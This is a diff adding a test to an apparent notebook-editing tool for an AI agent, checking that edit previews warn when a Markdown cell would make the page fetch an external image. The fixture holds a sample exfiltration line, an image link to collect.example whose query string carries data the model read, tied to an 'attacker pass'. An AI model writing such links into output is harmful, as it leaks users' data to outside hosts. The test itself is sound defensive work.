@@ -201,6 +201,24 @@ async def test_an_edit_previews_the_cell_as_it_is_and_as_it_will_be(front, tools
     assert front.sources() == ["# Sales", "x = 40", "plot()"]  # a preview changes nothing
 
 
+async def test_an_edit_preview_names_the_hosts_a_markdown_cell_will_fetch_from(front, tools, tmp_path):
+    """A Markdown cell is rendered by JupyterLab, which keeps ``<img src="https://…">``: the agent view
+    shows the model's images as links, but a cell it writes made the page fetch a URL that can carry
+    what the model read (attacker pass 10). The question says so; a link or a local image does not."""
+    await call(tools, "notebook_read", tmp_path)
+    leak = "## Summary\n![chart](https://collect.example/c.png?d=north-41-south-2)"
+    insert = await preview(tools, "notebook_edit", tmp_path, action="insert", cell_id="c1", source=leak,
+                           cell_type="markdown")
+    assert "the page fetches from collect.example" in insert.summary
+    replace = await preview(tools, "notebook_edit", tmp_path, action="replace", cell_id="c2", cell_type="markdown",
+                            source='<img src="//cdn.example/x.png">')
+    assert "fetches from cdn.example" in replace.summary
+    for quiet in ("See [the docs](https://docs.example) and ![plot](plot.png)", "![x](https://a.example/x.png)"):
+        shown = await preview(tools, "notebook_edit", tmp_path, action="insert", cell_id="c1", source=quiet,
+                              cell_type="markdown" if "docs" in quiet else "code")
+        assert "fetches" not in shown.summary
+
+
 async def test_an_edit_preview_warns_when_the_cell_is_not_what_the_model_read(front, tools, tmp_path):
     await call(tools, "notebook_read", tmp_path)
     front.cells[1]["source"] = "x = 99  # the user typed here"
